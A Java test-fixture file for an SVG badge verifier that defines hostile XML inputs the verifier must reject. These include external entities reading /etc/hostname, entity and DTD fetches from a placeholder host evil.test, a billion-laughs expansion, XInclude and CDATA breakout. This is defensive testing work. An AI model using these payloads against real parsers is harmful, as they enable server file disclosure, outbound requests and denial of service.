package org.signet.corpus;

import java.nio.charset.StandardCharsets;
import java.util.List;
import org.signet.credential.baked.Bake;
import org.signet.json.Json;

/** SVG files with badges in them, and XML that reads files or grows. */
final class VectorCases {

  private static final String REFUSED = "PICTURE_REFUSED";
  private static final String ROOT =
      "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 8 8\"/>";

  private VectorCases() {}

  static List<Case> all() {
    String v = Json.write(Fixture.signed());
    return List.of(
        Case.of(121, "svg-entity", "An entity that names a file of the verifier's")
            .refused("", "svg", entity("SYSTEM \"file:///etc/hostname\""), 400, REFUSED)
            .refused("host", "svg", entity("SYSTEM \"https://evil.test/x\""), 400, REFUSED)
            .fetches()
            .refused("within", "svg", entity("\"a\""), 400, REFUSED)
            .refused(
                "parameter",
                "svg",
                "<!DOCTYPE svg [<!ENTITY % x SYSTEM \"https://evil.test/x.dtd\">%x;]>" + ROOT,
                400,
                REFUSED)
            .fetches()
            .good("", "svg", Bake.svg(v)),
        growing(v),
        twofold(v),
        Case.of(124, "svg-cdata", "A text that ends what it stands in")
            .refused(
                "",
                "svg",
                svg(
                    "<openbadges:credential><![CDATA["
                        + sectioned()
                        + "]]></openbadges:credential>"),
                400,
                REFUSED)
            .good("", "svg", Bake.svg(sectioned()))
            .good("escaped", "svg", Bake.svg(sectioned().replace("]]>", "]]\\u003e"))));
  }

  private static Case growing(String v) {
    StringBuilder laughs = new StringBuilder("<!DOCTYPE svg [<!ENTITY lol0 \"lol\">");
    for (int i = 1; i < 10; i++) {
      laughs.append("<!ENTITY lol" + i + " \"" + ("&lol" + (i - 1) + ";").repeat(10) + "\">");
    }
    laughs
        .append("]>")
        .append(Bake.PICTURE.replaceAll("<\\?xml.*\\?>", "").replace("R\u00e9ussite", "&lol9;"));
    return Case.of(122, "svg-growing", "Entities of entities, and documents in documents")
        .refused("laughs", "svg", laughs.toString(), 400, REFUSED)
        .refused("dtd", "svg", "<!DOCTYPE svg SYSTEM \"https://evil.test/svg.dtd\">" + ROOT, 400)
        .code(REFUSED)
        .fetches()
        .refused(
            "xinclude",
            "svg",
            svg(
                "<x:include xmlns:x=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/hostname\"/>"),
            400,
            REFUSED)
        .refused(
            "stylesheet",
            "svg",
            "<?xml-stylesheet href=\"https://evil.test/x.css\"?>"
                + new String(Bake.svg(v), StandardCharsets.UTF_8)
                    .replaceAll("<\\?xml version.*\\?>", ""),
            400,
            REFUSED)
        .fetches()
        .refused("deep", "svg", svg("<g>".repeat(5_000)), 400, REFUSED)
        .refused("utf-16", "svg", Bake.PICTURE.replace("UTF-8", "UTF-16"), 400)
        .good(
            "comments",
            "svg",
            Bake.svg(Bake.PICTURE.replace("<title>", "<!-- & --><title>"), Bake.element("", v)));
  }

  private static Case twofold(String v) {
    String one = Bake.element("", v);
    String token = Fixture.token();
    return Case.of(
            123, "svg-two-badges", "Two badges, badges of another name, and a token beside a text")
        .refused("two", "svg", svg(one + one), 400, REFUSED)
        .refused("both", "svg", svg(Bake.element(" verify=\"" + token + "\"", v)), 400, REFUSED)
        .refused(
            "namespace",
            "svg",
            new String(Bake.svg(v), StandardCharsets.UTF_8)
                .replace(Bake.OPEN_BADGES_3, "http://openbadges.org"),
            400,
            "NO_CREDENTIAL")
        .refused("none", "svg", Bake.PICTURE, 400, "NO_CREDENTIAL")
        .refused("nested", "svg", svg("<g>" + one + "</g>"), 400, REFUSED)
        .refused("html", "svg", "<html><body>" + one + "</body></html>", 400)
        .good("token", "svg", Bake.svgToken(token))
        .good("", "svg", Bake.svg(v));
  }

  private static String entity(String value) {
    return "<!DOCTYPE svg [<!ENTITY x "
        + value
        + ">]>"
        + new String(Bake.svg("&x;"), StandardCharsets.UTF_8).replaceAll("<\\?xml.*\\?>", "");
  }

  private static byte[] svg(String element) {
    return Bake.svg(Bake.PICTURE, element);
  }

  private static String sectioned() {
    return Json.write(
        Fixture.signed(
            "/credentialSubject/achievement/criteria/narrative", "\"a[b[0]]>c & <d> ]]>\""));
  }
}
